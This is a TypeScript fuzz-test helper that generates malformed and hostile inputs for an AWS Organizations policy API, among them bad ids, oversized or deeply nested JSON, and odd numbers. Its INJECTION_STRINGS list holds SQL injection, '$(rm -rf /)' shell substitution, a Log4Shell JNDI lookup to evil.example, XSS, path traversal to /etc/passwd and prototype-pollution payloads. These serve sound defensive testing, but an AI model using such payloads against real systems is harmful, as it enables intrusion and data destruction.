import type { Rng } from './prng';

/** Ids that exist in the demo seed (valid, so a request using them may legitimately reach upstream). */
export const KNOWN_IDS = ['r-demo', '444444444444', 'ou-demo-security', 'p-aioptoutall', 'p-FullAWSAccess'] as const;

/** Well-formed AWS ids that name nothing in the demo organization. */
export const UNKNOWN_VALID_IDS = ['r-zz99', 'ou-zz99-abcdefgh', '999999999999', 'p-doesnotexist1', 'r-0000000000000000000000000000000a'] as const;

export const INJECTION_STRINGS = [
  "'; DROP TABLE audit_events; --",
  '" OR 1=1 --',
  "1' OR '1'='1",
  '$(rm -rf /)',
  '`id`',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00%27%22',
  '\\u0000',
  '__proto__',
  'constructor',
  '{"$ne": null}',
  'SELECT * FROM api_keys',
  'r-demo\nX-Injected: 1',
  'r-demo; DELETE FROM audit_events',
] as const;

export const UNICODE_STRINGS = [
  'ünïcødé',
  '名前',
  '😀🔥💥',
  '\u202Eevil\u202C',
  'e\u0301\u0301\u0301\u0301',
  '\uFEFFbom',
  '\u200B\u200C\u200D',
  '\uD800', // lone high surrogate
  '\uDFFF', // lone low surrogate
  '\u0000',
  'a\u0000b',
  '\u0007\u001b[31mred',
  '\r\n\t',
  'Ω≈ç√∫',
] as const;

/** An id that the AWS patterns refuse: wrong shape, overlong, hostile. */
export function invalidId(rng: Rng): string {
  return rng.weighted<() => string>([
    [
      3,
      () =>
        rng.pick([
          '',
          ' ',
          'r-',
          'R-DEMO',
          'r-DEMO',
          'r-ab',
          'ou-x',
          'ou-demo',
          'p-',
          'p-short',
          '12345',
          '1234567890123',
          '4444444444a4',
          'o-abcdefghij',
          'arn:aws:organizations::1:root/o-x/r-demo',
        ]),
    ],
    [2, () => rng.pick(INJECTION_STRINGS)],
    [1, () => rng.pick(UNICODE_STRINGS)],
    [1, () => rng.pick(['r-', 'ou-', 'p-', '']) + 'a'.repeat(rng.int(129, 20_000))],
    [1, () => `${rng.pick(KNOWN_IDS)}${rng.pick([' ', '\n', '\u0000', '%', "'", '/..'])}`],
  ])();
}

/** Any id: mostly invalid, sometimes well-formed (known or unknown). */
export function anyId(rng: Rng): string {
  return rng.weighted<() => string>([
    [6, () => invalidId(rng)],
    [1, () => rng.pick(UNKNOWN_VALID_IDS)],
    [1, () => rng.pick(KNOWN_IDS)],
  ])();
}

/** A string that is hostile in some way: huge, unicode, null bytes, injection, empty. */
export function hostileString(rng: Rng): string {
  return rng.weighted<() => string>([
    [3, () => rng.pick(INJECTION_STRINGS)],
    [3, () => rng.pick(UNICODE_STRINGS)],
    [2, () => rng.pick(['', ' ', '\t', 'x'])],
    [2, () => rng.pick(UNICODE_STRINGS).repeat(rng.int(2, 200))],
    [1, () => 'A'.repeat(rng.int(256, 100_000))],
    [1, () => rng.string(rng.int(1, 64), 'abcXYZ019 !"#$%&\'()*+,-./:;<=>?@[\\]^_`{|}~\u0000\u00e9\u4e2d')],
  ])();
}

/** A number that breaks Int (outside 32 bits, fractional) or is suspicious (negative, zero). */
export function oddNumber(rng: Rng): number {
  return rng.pick([0, -1, -2147483649, 2147483648, 1e21, 1.5, -0.5, Number.MAX_SAFE_INTEGER, 2 ** 53 + 2, 1e-300]);
}

/**
 * JSON text spliced into a request body as a value (not as a string): documents nested deeper than
 * JSON.stringify can serialise (a few thousand levels) are still sent as JSON objects.
 */
export class RawJson {
  constructor(readonly text: string) {}
}

/** JSON.stringify that writes RawJson values as their text. */
export function stringifyBody(value: unknown): string {
  const raws: string[] = [];
  const text = JSON.stringify(value, (_key, v: unknown) => {
    if (v instanceof RawJson) {
      raws.push(v.text);
      return `@@RAW${raws.length - 1}@@`;
    }
    return v;
  });
  return raws.reduce((out, raw, i) => out.replace(`"@@RAW${i}@@"`, () => raw), text);
}

function aiDoc(services: Record<string, unknown>): Record<string, unknown> {
  return { services };
}

/** An AI opt-out document longer than the 2,500 characters AWS allows (otherwise valid). */
function oversizedAiOptOut(rng: Rng): string {
  const base = JSON.stringify(aiDoc({ default: { opt_out_policy: { '@@assign': 'optOut' } } }));
  const padding = rng.int(2_501 - base.length + 1, 6_000);
  return rng.chance(0.5)
    ? base.replace('{', `{${' '.repeat(padding)}`)
    : JSON.stringify(aiDoc({ default: { opt_out_policy: { '@@assign': 'optOut' } } }), null, rng.int(10, 10)).padEnd(2_501 + rng.int(0, 500), '\n');
}

export interface PolicyContentCase {
  readonly label: string;
  /** The value sent for `content: JSON!`: a string is the document text, anything else the document itself. */
  readonly content: unknown;
}

/**
 * Policy contents that must never reach AWS: invalid JSON text, wrong shapes, documents over the
 * size limit, deep nesting, numbers where strings belong, hostile keys.
 */
export function malformedPolicyContent(rng: Rng): PolicyContentCase {
  return rng.weighted<() => PolicyContentCase>([
    [
      3,
      () => ({
        label: 'invalid-json-text',
        content: rng.pick([
          '{',
          '{"services":',
          'nul',
          "{'services':{}}",
          '{"a":1,}',
          '{"a" 1}',
          '\uFEFF{}x',
          '{}}',
          '[',
          '"unterminated',
          '{"a":01}',
          '{"a":NaN}',
          '{"a":Infinity}',
          '\u0000',
          '',
          '   ',
          '{"a":"\\x"}',
          '/* c */ {}',
        ]),
      }),
    ],
    [2, () => ({ label: 'wrong-shape', content: rng.pick<unknown>([[], [1, 2], 42, -1.5, true, false, 'plain text', '[]', '42', 'true', 'null', '""']) })],
    [2, () => ({ label: 'oversized-ai-opt-out', content: oversizedAiOptOut(rng) })],
    [
      1,
      () => ({
        label: 'oversized-any',
        content: JSON.stringify({
          Version: '2012-10-17',
          Statement: [{ Effect: 'Allow', Action: '*', Resource: '*', Sid: 'x'.repeat(rng.int(12_000, 60_000)) }],
        }),
      }),
    ],
    [
      2,
      () => {
        const depth = rng.pick([300, 1_000, 5_000, 20_000]);
        const asArray = rng.chance(0.5);
        const asText = rng.chance(0.5);
        const text = asArray ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
        return { label: `deep-nesting-${asText ? 'text' : 'object'}`, content: asText ? text : new RawJson(text) };
      },
    ],
    [
      3,
      () => ({
        label: 'numbers-for-strings',
        content: rng.pick<unknown>([
          aiDoc({ default: { opt_out_policy: { '@@assign': 5 } } }),
          aiDoc({ default: { opt_out_policy: 5 } }),
          aiDoc({ default: 7 }),
          aiDoc({ lex: { opt_out_policy: { '@@assign': ['optOut', 3] } } }),
          { Version: 2012, Statement: [{ Effect: 1, Action: 2, Resource: 3 }] },
          { tags: { costcenter: { tag_key: { '@@assign': 12 } } } },
          { services: 12 },
          { services: null },
          { services: { default: { opt_out_policy: { '@@assign': null } } } },
        ]),
      }),
    ],
    [
      2,
      () => ({
        label: 'wrong-keys',
        content: rng.pick<unknown>([
          {},
          { services: [] },
          { '': {} },
          '{"__proto__":{"polluted":true},"services":{}}',
          '{"constructor":{"prototype":{"polluted":true}}}',
          { services: { default: { opt_out_policy: { '@@bogus': 'optOut' } } } },
          { services: { default: { opt_out_policy: { '@@assign': 'maybe' } } } },
          { Version: '2012-10-17' },
          { Statement: 'everything' },
          { [hostileString(rng).slice(0, 200)]: hostileString(rng).slice(0, 200) },
        ]),
      }),
    ],
  ])();
}

/** Any JSON value, sometimes large or deep: for JSON arguments the schema-driven generator fills. */
export function randomJson(rng: Rng, depth = 0): unknown {
  if (depth > 4 || rng.chance(0.3)) {
    return rng.pick<() => unknown>([() => null, () => rng.chance(0.5), () => oddNumber(rng), () => hostileString(rng).slice(0, 2_000)])();
  }
  if (rng.chance(0.5)) return Array.from({ length: rng.int(0, 4) }, () => randomJson(rng, depth + 1));
  const out: Record<string, unknown> = {};
  for (let i = rng.int(0, 4); i > 0; i -= 1)
    out[rng.pick(['services', 'default', 'Statement', '@@assign', 'a', hostileString(rng).slice(0, 40)])] = randomJson(rng, depth + 1);
  return out;
}
